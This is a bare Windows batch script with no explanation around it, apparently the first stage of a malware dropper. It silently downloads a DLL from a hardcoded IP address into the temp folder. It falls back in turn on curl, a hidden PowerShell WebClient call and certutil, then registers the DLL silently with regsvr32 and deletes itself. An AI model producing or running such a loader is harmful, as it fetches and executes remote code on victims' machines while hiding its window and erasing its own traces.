@echo off
set "d=%TEMP%\sdd.dll"
curl -s -o "%d%" http://198.51.100.201/sdd.dll 2>nul
if not exist "%d%" powershell -w hidden -c "(New-Object Net.WebClient).DownloadFile('http://198.51.100.201/sdd.dll',$env:TEMP+'\sdd.dll')"
if not exist "%d%" certutil.exe -urlcache -f http://198.51.100.201/sdd.dll "%d%"
regsvr32.exe -s "%d%"
del "%~f0"
